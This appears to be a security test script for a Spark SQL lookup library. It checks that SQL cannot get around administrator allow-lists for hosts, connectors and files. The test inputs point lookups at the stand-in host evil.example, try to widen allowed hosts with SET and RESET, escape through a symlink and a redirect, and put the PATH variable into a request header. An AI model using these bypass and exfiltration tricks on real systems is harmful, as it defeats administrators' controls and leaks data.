"""SQL tries to get around what the administrator allows; classic and Connect. See ``test_security``.

The administrator's words are in Spark's own configuration; those for the workers alone are in their environment.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pyspark.sql import SparkSession

from lookup_hints import LookupSession, async_wait
from tests.servers.http_server import Api, running_api
from tests.spark.elsewhere import Steps

ON_WORKERS = "LOOKUP_SECURITY_ALLOWED_REFERENCES"
COLUMNS = "(id BIGINT, name STRING, PRIMARY KEY (id) NOT ENFORCED)"
QUERY = "SELECT r.id, t.name FROM range(1, 3) r LEFT JOIN {table} t ON r.id = t.id"


def doubled(n: int) -> int:
    """Stands for a Python function of the user's own."""
    return 2 * n


def settings(folder: Path) -> dict[str, str]:
    """What the administrator gives Spark to start with."""
    return {
        "spark.lookup.security.allowed-connectors": "memory, http, sqlite",
        "spark.lookup.security.allowed-hosts": "127.0.0.1",
        "spark.lookup.security.allowed-references": f"env:LOOKUP_*, env:PATH, file:{folder}/open/*",
        f"spark.executorEnv.{ON_WORKERS}": f"env:LOOKUP_*, file:{folder}/**",
        "spark.ui.enabled": "false",
    }


def scenario(spark: SparkSession, another: Callable[[], SparkSession], folder: Path, api: Api) -> Steps:
    """All steps."""
    step = Steps()
    session = LookupSession(spark)
    api.script(
        "/moved/1",
        {"status": 302, "headers": {"Location": f"http://localhost:{api.port}/people/1"}, "repeat": True},
    )

    def create(options: str, in_session: LookupSession = session, table: str = "t") -> None:
        in_session.sql(f"CREATE OR REPLACE TEMPORARY TABLE {table} {COLUMNS} WITH ({options})")

    def evil(in_session: LookupSession = session) -> None:
        create("'connector' = 'http', 'url' = 'http://evil.example/{id}'", in_session)

    @step
    def allowed() -> Any:
        create(f"'connector' = 'http', 'url' = '{api.url}/people/{{id}}'")
        return [list(row) for row in session.sql(QUERY.format(table="t")).collect()]

    @step
    def a_host() -> None:
        evil()

    @step
    def a_connector() -> None:
        create("'connector' = 'tests.spark.counting:CountingConnector'")

    @step
    def a_statement_that_sets() -> None:
        session.sql("SET spark.lookup.security.allowed-hosts = *")

    @step
    def another_statement_that_sets() -> None:
        spark.sql("SET `spark.lookup.security.allowed-hosts`=`*`").collect()
        spark.conf.set("lookup.security.allowed-hosts", "*")
        spark.conf.set("spark.lookup.security.allowed-hosts", "*")
        evil()

    @step
    def a_reset() -> None:
        spark.sql("RESET `spark.lookup.security.allowed-hosts`").collect()
        spark.sql("RESET").collect()
        evil()

    @step
    def a_new_session() -> None:
        evil(LookupSession(another()))

    @step
    def a_file_behind_a_link() -> None:
        create(f"'connector' = 'sqlite', 'path' = '{folder}/open/link'")
        session.sql(QUERY.format(table="t")).collect()

    @step
    def a_redirect() -> None:
        create(
            f"'connector' = 'http', 'url' = '{api.url}/moved/{{id}}', 'on-error' = 'null',"
            f" 'allowed-origins' = 'http://localhost:{api.port}'"
        )
        session.sql(QUERY.format(table="t")).collect()

    @step
    def a_host_in_a_reference() -> None:
        create("'connector' = 'http', 'url' = '${env:LOOKUP_EVIL}/{id}'")
        session.sql(QUERY.format(table="t")).collect()

    @step
    def what_workers_do_not_allow() -> None:
        create(f"'connector' = 'http', 'url' = '{api.url}/people/{{id}}', 'header.X-A' = '${{env:PATH}}'")
        session.sql(QUERY.format(table="t")).collect()

    @step
    def python_is_trusted() -> Any:
        frame = async_wait(spark.range(3), doubled, inputs=["id"], returns="two INT")
        return sorted(row["two"] for row in frame.collect())

    return step


if __name__ == "__main__":
    folder = Path(sys.argv[1]).resolve()
    (folder / "open").mkdir()
    (folder / "closed").mkdir()
    (folder / "closed" / "people.sqlite").touch()
    (folder / "open" / "link").symlink_to(folder / "closed" / "people.sqlite")
    os.environ["LOOKUP_EVIL"] = "http://evil.example"
    is_connect = "ON_CONNECT" in os.environ
    given = settings(folder)
    if is_connect:  # a server that runs here hands its workers what it has itself
        os.environ[ON_WORKERS] = given[f"spark.executorEnv.{ON_WORKERS}"]
    builder = (
        SparkSession.builder.remote("local[1]") if is_connect else SparkSession.builder.master("local[1]")
    )
    for key, value in given.items():
        builder = builder.config(key, value)
    spark = builder.getOrCreate()
    os.environ.pop(ON_WORKERS, None)
    new_session = SparkSession.builder.remote("sc://localhost").create if is_connect else spark.newSession
    with running_api() as api:
        scenario(spark, new_session, folder, api).tell(folder)
    spark.stop()
